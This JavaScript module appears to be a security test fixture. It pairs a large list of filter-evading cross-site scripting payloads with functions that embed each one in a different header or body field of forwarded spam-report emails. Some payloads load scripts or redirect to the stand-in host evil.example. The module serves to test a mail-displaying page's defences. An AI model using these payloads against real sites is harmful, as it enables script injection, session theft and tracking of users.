// hostile.mjs - mails that try to make a page run a script.
//
// Payloads of every family that evades filters, each in every field of a mail
// that reaches a page. A payload that runs sets window.pwned, opens a dialog,
// loads something or makes the browser's policy complain. Each mail has a
// relay of its own, so each becomes an item.
const js = 'top.pwned=1';
export const payloads = [
	`<script>${js}</script>`,
	`</title><script>${js}</script>`,
	`</textarea></pre></style><script>${js}</script>`,
	`<ScRiPt >${js}</ScRiPt >`,
	`<scr<script>ipt>${js}</scr</script>ipt>`,
	`<script/src=//evil.example/x.js></script>`,
	`<script\u000b>${js}</script>`,
	`<<script>${js};//<</script>`,
	`<img src=x onerror=${js}>`,
	`<img src=x onerror="${js}"`,
	`<img/src=x/onerror=${js}>`,
	`<img """><script>${js}</script>">`,
	`<img src="jav&#x09;ascript:${js}">`,
	`<img src=//evil.example/track.gif>`,
	`<svg onload=${js}>`,
	`<svg><script>${js}</script></svg>`,
	`<svg><animate onbegin=${js} attributeName=x dur=1s>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
	`<iframe src="javascript:${js}"></iframe>`,
	`<iframe srcdoc="<script>${js}</script>">`,
	`<object data="javascript:${js}">`,
	`<embed src=//evil.example/x.swf>`,
	`<details open ontoggle=${js}>`,
	`<input autofocus onfocus=${js}>`,
	`<select autofocus onfocus=${js}>`,
	`<video><source onerror="${js}">`,
	`<body onload=${js}>`,
	`<marquee onstart=${js}>`,
	`<meta http-equiv=refresh content="0;url=//evil.example/">`,
	`<base href=//evil.example/>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>@import '//evil.example/x.css';</style>`,
	`<div style="background:url(//evil.example/x.png)">`,
	`<form action=//evil.example/><button autofocus>x</button>`,
	`<a href="javascript:${js}" autofocus>x</a>`,
	`<a href="data:text/html,<script>${js}</script>">x</a>`,
	`" autofocus onfocus="${js}`,
	`' autofocus onfocus='${js}`,
	`" onmouseover="${js}" style="position:fixed;inset:0" x="`,
	`\`\`onmouseover=${js}`,
	`x onerror=${js} src=x`,
	`javascript:${js}`,
	`java\tscript:${js}`,
	`&lt;script&gt;${js}&lt;/script&gt;`,
	`&#60;script&#62;${js}&#60;/script&#62;`,
	`&quot; onfocus=${js} autofocus x=&quot;`,
	`%3Cscript%3E${js}%3C/script%3E`,
	`\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
	`+ADw-script+AD4-${js}+ADw-/script+AD4-`,
	`\u00bcscript\u00be${js}\u00bc/script\u00be`,
	`<!--><script>${js}</script>-->`,
	`<![CDATA[<script>${js}</script>]]>`,
	`<?xml-stylesheet href="javascript:${js}"?>`,
	`--!><img src=x onerror=${js}>`,
	`<template><script>${js}</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=${js}>">`,
	`{{constructor.constructor('${js}')()}}`,
	`\${${js}}`,
	`'-${js}-'`,
	`";${js}//`,
	`</script><script>${js}</script>`,
	`\u202e<script>${js}</script>\u202c`,
	`\u2028<img src=x onerror=${js}>\u2029`,
	`\u0000<img src=x onerror=${js}>`,
	`<img src=x onerror=\u0001${js}>`,
	`\ufeff<svg/onload=${js}>`,
];

const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
const word = (s) => `=?utf-8?B?${b64(s).slice(0, 2000)}?=`;
const quoted = (s) => '=?utf-8?Q?' + [...Buffer.from(s, 'utf8')].map((c) =>
	'=' + c.toString(16).toUpperCase().padStart(2, '0')).join('') + '?=';
// what may stand raw in a header line
const line = (s) => s.replace(/[\r\n\0]/g, ' ');
const token = (s) => s.replace(/[\s\0()]/g, '_');

// Each puts payload P into one field of the mail M.
export const fields = {
	subject: (m, p) => { m.subject = line(p); },
	subject_b: (m, p) => { m.subject = word(p); },
	subject_q: (m, p) => { m.subject = quoted(p); },
	from_name: (m, p) => { m.from = `${word(p)} <x@bulk.example>`; },
	from_raw: (m, p) => { m.from = `${line(p)} <x@bulk.example>`; },
	from_local: (m, p) => {
		m.from = `"${line(p).replace(/["\\]/g, '\\$&')}"@bulk.example`;
	},
	from_domain: (m, p) => { m.from = `x@${token(p)}.example`; },
	reply_to: (m, p) => { m.more.push(`Reply-To: ${word(p)} <${token(p)}@r.example>`); },
	helo: (m, p) => { m.helo = token(p); },
	rdns: (m, p) => { m.rdns = token(p); },
	by: (m, p) => { m.by = token(p); },
	with: (m, p) => { m.with = token(p); },
	id: (m, p) => { m.id = token(p); },
	lower: (m, p) => {
		m.lower = `Received: from ${token(p)} (${line(p).replace(/[()]/g, '_')} [192.0.2.7]) by ${token(p)}; Fri, 20 Nov 2026 09:00:00 +0000`;
	},
	envelope: (m, p) => { m.more.push(`Return-Path: <${token(p)}@env.example>`); },
	message_id: (m, p) => { m.more.push(`Message-ID: <${token(p)}>`); },
	date: (m, p) => { m.date = line(p); },
	charset: (m, p) => { m.type = `text/plain; charset="${line(p).replace(/["\\]/g, '_')}"`; },
	type: (m, p) => { m.type = `${token(p)}/${token(p)}`; },
	file_name: (m, p) => { m.file = `filename="${line(p).replace(/["\\]/g, '\\$&')}"`; },
	file_2231: (m, p) => { m.file = `filename*=utf-8''${encodeURIComponent(p)}`; },
	text: (m, p) => { m.body = p; },
	html: (m, p) => {
		m.type = 'text/html; charset=utf-8';
		m.body = `<html><body>${p}<a href="http://x.example/${encodeURIComponent(p)}">x</a></body></html>`;
	},
	dkim: (m, p) => { m.top.push(`Authentication-Results: mx.submitter.example.org; dkim=pass header.d=${token(p)}; spf=pass smtp.mailfrom=${token(p)}`); },
};

export function mail(number, field, payload) {
	const m = {
		subject: `Offer ${number}`, from: `x${number}@bulk${number}.example`,
		helo: 'mail.bulk.example', rdns: 'mail.bulk.example',
		by: 'mx.submitter.example.org', with: 'ESMTP', id: `q${number}`,
		lower: '', date: 'Fri, 20 Nov 2026 09:30:00 +0000', type: 'text/plain; charset=utf-8',
		file: '', body: `Buy number ${number}.`, more: [], top: [],
	};
	const ip = `2001:db8:${(0x1000 + number).toString(16)}::25`;

	fields[field](m, payload);
	const inner = [
		...m.top,
		`Received: from ${m.helo} (${m.rdns} [IPv6:${ip}])`,
		`\tby ${m.by} with ${m.with} id ${m.id}; Fri, 20 Nov 2026 09:30:02 +0000`,
		...(m.lower ? [m.lower] : []),
		...m.more,
		`From: ${m.from}`, 'To: victim@submitter.example.org',
		`Subject: ${m.subject}`, `Date: ${m.date}`, 'MIME-Version: 1.0',
		...(m.file
			? ['Content-Type: multipart/mixed; boundary=in', '',
				'--in', `Content-Type: ${m.type}`, '', m.body, '--in',
				'Content-Type: application/octet-stream',
				`Content-Disposition: attachment; ${m.file}`, '',
				'data', '--in--']
			: [`Content-Type: ${m.type}`,
				'Content-Transfer-Encoding: 8bit', '', m.body]),
	];

	return [
		'From: postmaster@submitter.example.org', 'To: report@bl.example.test',
		`Subject: spam ${number}`, 'MIME-Version: 1.0',
		'Content-Type: multipart/mixed; boundary=out', '', '--out',
		'Content-Type: text/plain', '', 'see attached', '--out',
		'Content-Type: message/rfc822', '', ...inner, '--out--', '',
	].join('\r\n');
}
